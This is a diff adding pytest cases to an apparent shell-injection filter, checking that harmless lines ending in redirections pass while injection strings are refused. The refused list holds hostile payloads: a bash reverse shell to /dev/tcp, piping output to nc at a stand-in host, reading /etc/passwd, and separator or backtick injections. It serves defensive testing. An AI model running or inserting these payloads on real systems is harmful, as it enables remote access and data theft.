@@ -645,3 +645,25 @@ def test_a_glob_hiding_an_os_directory_is_refused(rce_edge, value):
 @pytest.mark.parametrize("value", GLOBS_LOWER_DOWN)
 def test_globs_lower_down_pass(edge, value):
     assert_passes_in_note_and_query(edge, value)
+
+
+# A descriptor's duplication (2>&1) and /dev/null end manual lines and
+# crontab entries; alone they are no shell injection. An attack that
+# uses them still has its separator, its command or its /dev/tcp.
+REDIRECTING_LINES = ["make check TESTS=tests/df/df-P.sh >> log 2>&1",
+                     "*/5 * * * * /opt/app/run.sh > /dev/null 2>&1",
+                     "pip install -r requirements.txt > /dev/null 2>&1",
+                     "command -v git >/dev/null 2>&1 || echo missing"]
+REDIRECTING_ATTACKS = ["x; uname -a 2>&1 | nc evil.example 80",
+                       ";bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+                       "|cat /etc/passwd 2>&1", ";id &>/tmp/x", "`id 2>&1`"]
+
+
+@pytest.mark.parametrize("value", REDIRECTING_LINES)
+def test_lines_ending_in_redirections_pass(edge, value):
+    assert_passes_in_note_and_query(edge, value)
+
+
+@pytest.mark.parametrize("value", REDIRECTING_ATTACKS)
+def test_attacks_with_redirections_refused(rce_edge, value):
+    assert_blocked_by_rce(rce_edge, value)
